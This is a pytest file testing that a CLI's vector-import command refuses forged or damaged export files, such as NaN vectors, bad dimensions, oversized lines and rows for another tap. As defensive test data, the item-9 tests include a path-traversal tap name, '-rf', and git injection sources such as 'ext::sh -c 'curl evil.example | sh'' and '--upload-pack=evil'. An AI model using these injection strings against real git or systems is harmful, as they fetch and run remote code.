"""Issue 17 items 4-7, 9, 10: `boost vectors import` of files anyone may have written.

Each test crafts a vectors file from a genuine export (the `hash` embedder: local, fast,
deterministic) and runs the real CLI as a subprocess. What must hold: a bad file changes
nothing and is refused with exit 2 and what is wrong with it; a file for one tap affects
only that tap's texts and never replaces a vector embedded here; memory stays bounded."""

from __future__ import annotations

import base64
import json
import math
import random
import shutil
import sqlite3
import struct
import subprocess
import sys
from pathlib import Path
from typing import Any, Callable, Dict, List, Optional, Tuple

import pytest

from tests.helpers import EXAMPLES, ROOT, make_repo, run_boost, skill

HASH = {"BOOST_EMBED_PROVIDER": "hash"}
DIMS = 256  # the hash embedder's


def _ok(args: List[str], home: Path, env: Optional[Dict[str, str]] = None) -> str:
    r = run_boost(args, home, env={**HASH, **(env or {})})
    assert r.returncode == 0, (args, r.stderr)
    return r.stdout


@pytest.fixture(scope="module")
def alice(tmp_path_factory: pytest.TempPathFactory) -> Dict[str, Path]:
    """A home with tap a (the example registry) and tap b (two skills of its own), both
    embedded, and each tap's export."""
    base = tmp_path_factory.mktemp("alice")
    a = make_repo(Path(shutil.copytree(EXAMPLES, base / "reg-a")))
    b = make_repo(
        base / "reg-b",
        {
            "skills/kafka/SKILL.md": skill("kafka", "kafka consumer groups", "lag, offsets"),
            "skills/redis/SKILL.md": skill("redis", "redis cache eviction", "maxmemory"),
        },
    )
    home = base / "home"
    _ok(["tap", str(a), "--name", "a"], home)
    _ok(["tap", str(b), "--name", "b"], home)
    _ok(["reindex", "--dense"], home)
    _ok(["vectors", "export", "a", str(base / "a.jsonl")], home)
    _ok(["vectors", "export", "b", str(base / "b.jsonl")], home)
    return {"home": home, "a": base / "a.jsonl", "b": base / "b.jsonl", "repo_a": a, "repo_b": b}


def fresh_home(alice: Dict[str, Path], tmp_path: Path, dense: bool = False) -> Path:
    """A home with taps a and b tapped and BM25-indexed; embedded too with ``dense``."""
    home = tmp_path / "bob"
    _ok(["tap", str(alice["repo_a"]), "--name", "a"], home)
    _ok(["tap", str(alice["repo_b"]), "--name", "b"], home)
    _ok(["reindex", "--dense"] if dense else ["reindex"], home)
    return home


def parse(path: Path) -> Tuple[Dict[str, Any], List[List[str]]]:
    lines = path.read_text(encoding="utf-8").splitlines()
    return json.loads(lines[0]), [json.loads(line) for line in lines[1:]]


def write(
    path: Path, header: Dict[str, Any], rows: List[List[str]], fix_count: bool = True
) -> Path:
    if fix_count:
        header = {**header, "count": len(rows)}
    lines = [json.dumps(header, sort_keys=True)] + [json.dumps(r) for r in rows]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def vec(values: List[float]) -> str:
    return base64.b64encode(struct.pack(f"<{len(values)}f", *values)).decode("ascii")


def unit_vector(seed: int) -> List[float]:
    rnd = random.Random(seed)
    v = [rnd.gauss(0, 1) for _ in range(DIMS)]
    n = math.sqrt(sum(x * x for x in v))
    return [x / n for x in v]


def cache_rows(home: Path) -> Dict[str, bytes]:
    conn = sqlite3.connect(str(home / "cache" / "vectors.sqlite"))
    try:
        return {h: bytes(v) for h, v in conn.execute("SELECT text_hash, vector FROM cache")}
    finally:
        conn.close()


def refused(home: Path, path: Path, *extra: str, cmd: Optional[List[str]] = None) -> str:
    args = cmd or [sys.executable, "-m", "boost_cli"]
    r = subprocess.run(
        [*args, "vectors", "import", str(path), *extra],
        env={**_env(home)},
        capture_output=True,
        text=True,
        timeout=120,
        cwd=str(ROOT),
    )
    assert r.returncode == 2, (r.returncode, r.stdout, r.stderr)
    assert "internal error" not in r.stderr and r.stderr.count("\n") == 1, r.stderr
    return r.stderr


def _env(home: Path) -> Dict[str, str]:
    import os

    env = {k: v for k, v in os.environ.items() if not k.startswith("BOOST_")}
    return {**env, "BOOST_HOME": str(home), **HASH}


# Run the CLI with numpy imported first, or with numpy made unimportable.
WITH_NUMPY = "import numpy, runpy; runpy.run_module('boost_cli', run_name='__main__')"
NO_NUMPY = "import sys, runpy; sys.modules['numpy'] = None; runpy.run_module('boost_cli', run_name='__main__')"


def _numpy_cmd(which: str) -> List[str]:
    if which == "numpy":
        pytest.importorskip("numpy", reason="the numpy path needs numpy (the [local] extra)")
        return [sys.executable, "-c", WITH_NUMPY]
    return [sys.executable, "-c", NO_NUMPY]


# --------------------------------------------------------------------------- item 4


@pytest.mark.parametrize("numpy", ["numpy", "no-numpy"])
@pytest.mark.parametrize(
    "values, message",
    [
        ([math.nan] * DIMS, "not a finite number"),
        ([math.inf] + [0.0] * (DIMS - 1), "not a finite number"),
        ([-math.inf, math.inf] + [0.0] * (DIMS - 2), "not a finite number"),
        ([3.0e38] * DIMS, "has length"),  # finite, but its norm is not 1
        ([0.0] * DIMS, "has length 0"),
        ([2.0 / math.sqrt(DIMS)] * DIMS, "has length 2"),
    ],
    ids=["nan", "inf", "inf-inf", "huge", "zero", "norm-2"],
)
def test_non_finite_and_non_unit_vectors_are_refused(
    alice: Dict[str, Path], tmp_path: Path, numpy: str, values: List[float], message: str
) -> None:
    home = fresh_home(alice, tmp_path)
    header, rows = parse(alice["a"])
    rows[len(rows) // 2][1] = vec(values)
    bad = write(tmp_path / "bad.jsonl", header, rows)
    err = refused(home, bad, cmd=_numpy_cmd(numpy))
    assert message in err and f"line {len(rows) // 2 + 2}" in err, err
    assert "ask for a file written by 'boost vectors export'" in err
    assert not (home / "cache" / "vectors.sqlite").exists()  # nothing written
    # The genuine file still imports, and hybrid search answers in JSON.
    _ok(["vectors", "import", str(alice["a"])], home)
    out = _ok(["search", "fill pdf forms", "--engine", "hybrid", "--json", "--no-llm"], home)
    assert "NaN" not in out and json.loads(out)[0]["name"] == "pdf-forms"


# --------------------------------------------------------------------------- item 5


def test_rows_for_another_taps_texts_go_nowhere(alice: Dict[str, Path], tmp_path: Path) -> None:
    """A file for tap a carrying rows for tap b's texts: b's next `reindex --dense` must
    embed b itself, not take the file's vectors."""
    home = fresh_home(alice, tmp_path)
    header, rows = parse(alice["a"])
    _, b_rows = parse(alice["b"])
    forged = [[h, vec(unit_vector(i))] for i, (h, _) in enumerate(b_rows)]
    crafted = write(tmp_path / "a-plus-b.jsonl", header, sorted(rows + forged))
    report = json.loads(_ok(["vectors", "import", str(crafted), "--json"], home))[0]
    assert report["built"] and report["ignored"] == len(b_rows), report
    assert report["cached"] == len(rows) == report["texts"]
    cached = cache_rows(home)
    assert not set(cached) & {h for h, _ in b_rows}
    _ok(["reindex", "--dense"], home)  # embeds b here
    alice_b = dict(parse(alice["b"])[1])
    for h, blob in cache_rows(home).items():
        if h in alice_b:
            assert base64.b64encode(blob).decode() == alice_b[h]  # b's own, not forged


def test_a_vector_embedded_here_is_never_replaced(alice: Dict[str, Path], tmp_path: Path) -> None:
    home = fresh_home(alice, tmp_path, dense=True)
    before = cache_rows(home)
    header, rows = parse(alice["a"])
    _, b_rows = parse(alice["b"])
    forged = [[h, vec(unit_vector(i))] for i, (h, _) in enumerate(rows + b_rows)]
    crafted = write(tmp_path / "forged.jsonl", header, sorted(forged))
    report = json.loads(_ok(["vectors", "import", str(crafted), "--json"], home))[0]
    assert report["cached"] == 0 and report["kept"] == len(rows), report
    assert report["ignored"] == len(b_rows)
    assert cache_rows(home) == before
    search = _ok(["search", "fill pdf forms", "--engine", "dense", "--json", "--no-llm"], home)
    assert json.loads(search)[0]["name"] == "pdf-forms"  # the store holds the real vectors


# --------------------------------------------------------------------------- item 6


@pytest.mark.parametrize("dims", ["abc", "384.0", "256.0", "-1", "0", "", " 256", "99999999999"])
def test_a_dimensions_field_that_is_not_a_whole_number_is_exit_2(
    alice: Dict[str, Path], tmp_path: Path, dims: str
) -> None:
    header, rows = parse(alice["a"])
    header["parity"]["dimensions"] = dims
    bad = write(tmp_path / "dims.jsonl", header, rows)
    err = refused(fresh_home(alice, tmp_path), bad)
    assert "dimensions" in err and "ask for a file written by 'boost vectors export'" in err


def test_a_requested_dimensions_field_that_is_not_a_whole_number_is_exit_2(
    alice: Dict[str, Path], tmp_path: Path
) -> None:
    header, rows = parse(alice["a"])
    header["parity"]["requested_dimensions"] = "1e3"
    bad = write(tmp_path / "req.jsonl", header, rows)
    assert "requested_dimensions '1e3', not a whole number" in refused(alice["home"], bad)


# --------------------------------------------------------------------------- item 7


def test_a_huge_count_is_refused_before_any_row_is_read(
    alice: Dict[str, Path], tmp_path: Path
) -> None:
    header, rows = parse(alice["a"])
    bad = write(tmp_path / "huge.jsonl", {**header, "count": 10**12}, rows, fix_count=False)
    err = refused(fresh_home(alice, tmp_path), bad)
    assert "says it holds 1000000000000 vectors, but tap 'a' has" in err


def test_more_rows_than_the_header_says_are_refused(alice: Dict[str, Path], tmp_path: Path) -> None:
    header, rows = parse(alice["a"])
    extra = [["f" * 64, vec(unit_vector(1))]]
    bad = write(tmp_path / "extra.jsonl", header, rows + extra, fix_count=False)
    assert "holds more rows than its header says" in refused(fresh_home(alice, tmp_path), bad)


@pytest.mark.parametrize(
    "craft, message",
    [
        (lambda rows: rows + rows[-1:], "repeats a row or is out of order"),
        (lambda rows: rows[1:2] + rows[:1] + rows[2:], "repeats a row or is out of order"),
        (lambda rows: [[rows[0][0].upper(), rows[0][1]]] + rows[1:], "line 2 is not a vector"),
        (lambda rows: [[rows[0][0], rows[0][1][:-8]]] + rows[1:], "line 2 is not a vector"),
        (lambda rows: [[rows[0][0], rows[0][1], 1]] + rows[1:], "line 2 is not a vector"),
    ],
    ids=["duplicate", "unsorted", "uppercase-hash", "short-vector", "three-fields"],
)
def test_damaged_rows_are_refused(
    alice: Dict[str, Path], tmp_path: Path, craft: Callable[[List[Any]], List[Any]], message: str
) -> None:
    header, rows = parse(alice["a"])
    bad = write(tmp_path / "rows.jsonl", header, craft(rows))
    assert message in refused(alice["home"], bad)


def test_a_file_of_the_same_commit_missing_vectors_says_so_not_a_commit_difference(
    alice: Dict[str, Path], tmp_path: Path
) -> None:
    home = fresh_home(alice, tmp_path)
    header, rows = parse(alice["a"])
    part = write(tmp_path / "part.jsonl", header, rows[::2])
    out = _ok(["vectors", "import", str(part)], home)
    assert "the file is of commit" not in out and "and the tap is at" not in out, out
    missing = len(rows) - len(rows[::2])
    assert f"has no vector for {missing} of its {len(rows)} texts" in out, out


def test_an_endless_line_is_refused_with_bounded_memory(
    alice: Dict[str, Path], tmp_path: Path
) -> None:
    """A 120 MB line (the old reader held the whole file, twice): refused, and the
    import's peak RSS stays far below the file's size."""
    header, rows = parse(alice["a"])
    bad = tmp_path / "endless.jsonl"
    with open(bad, "w", encoding="utf-8") as fh:
        fh.write(json.dumps(header) + "\n")
        fh.write('["' + rows[0][0] + '", "')
        chunk = "A" * (1 << 20)
        for _ in range(120):
            fh.write(chunk)
        fh.write('"]\n')
    probe = (
        "import resource, subprocess, sys; "
        "r = subprocess.run(sys.argv[1:], capture_output=True, text=True); "
        "print(r.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss); "
        "sys.stderr.write(r.stderr)"
    )
    r = subprocess.run(
        [
            sys.executable,
            "-c",
            probe,
            sys.executable,
            "-m",
            "boost_cli",
            "vectors",
            "import",
            str(bad),
        ],
        env=_env(fresh_home(alice, tmp_path)),
        capture_output=True,
        text=True,
        timeout=120,
        cwd=str(ROOT),
    )
    code, peak_kb = map(int, r.stdout.split())
    assert code == 2 and "line 2 is too long for a vector" in r.stderr, r.stderr
    assert peak_kb < 100 * 1024, peak_kb  # the file is 120 MB


# --------------------------------------------------------------------------- item 9


@pytest.mark.parametrize("tap", ["../../x", "-rf", ".hidden", "a/b", "x" * 101, "a\nb"])
def test_a_file_naming_an_invalid_tap_is_refused(
    alice: Dict[str, Path], tmp_path: Path, tap: str
) -> None:
    header, rows = parse(alice["a"])
    bad = write(tmp_path / "tap.jsonl", {**header, "tap": tap}, rows)
    err = refused(alice["home"], bad)
    assert "names an invalid tap" in err and "boost tap" not in err, err


@pytest.mark.parametrize(
    "source, shown",
    [
        ("https://evil.example/owner/repo", True),
        ("ext::sh -c 'curl evil.example | sh'", False),
        ("--upload-pack=evil", False),
        ("", False),
    ],
)
def test_an_untapped_taps_source_is_labelled_as_the_files_claim(
    alice: Dict[str, Path], tmp_path: Path, source: str, shown: bool
) -> None:
    header, rows = parse(alice["a"])
    crafted = write(tmp_path / "x.jsonl", {**header, "tap": "newtap", "source": source}, rows)
    r = run_boost(["vectors", "import", str(crafted)], tmp_path / "empty", env=HASH)
    assert r.returncode == 3, r.stderr
    assert "tap 'newtap' (the tap x.jsonl holds) is not tapped" in r.stderr
    assert "'boost tap SOURCE --name newtap'" in r.stderr
    if shown:
        assert f"the file says SOURCE is {source!r}, but anyone can write a vectors file" in (
            r.stderr
        )
    else:
        assert (source or "SOURCE is") not in r.stderr.split("—", 1)[1]


# --------------------------------------------------------------------------- item 10


def test_a_chunk_unit_export_imports_into_its_own_home_and_elsewhere_with_unit(
    alice: Dict[str, Path], tmp_path: Path
) -> None:
    home = tmp_path / "chunky"
    _ok(["tap", str(alice["repo_a"]), "--name", "a"], home)
    _ok(["reindex", "--dense", "--unit", "chunk"], home)
    exported = tmp_path / "a-chunk.jsonl"
    _ok(["vectors", "export", "a", str(exported)], home)
    report = json.loads(_ok(["vectors", "import", str(exported), "--json"], home))[0]
    assert report["built"] and report["sent"] == 0, report
    # An entry-unit home: the error names the option that allows it, which then works.
    other = fresh_home(alice, tmp_path, dense=True)
    err = refused(other, exported)
    assert "a-chunk.jsonl holds chunk vectors, entry vectors are used here" in err
    assert "'boost vectors import a-chunk.jsonl --unit chunk'" in err
    report = json.loads(
        _ok(["vectors", "import", str(exported), "--unit", "chunk", "--json"], other)
    )
    assert report[0]["built"] and report[0]["sent"] == 0, report
    out = _ok(["search", "fill pdf forms", "--engine", "dense", "--json", "--no-llm"], other)
    assert json.loads(out)[0]["name"] == "pdf-forms"
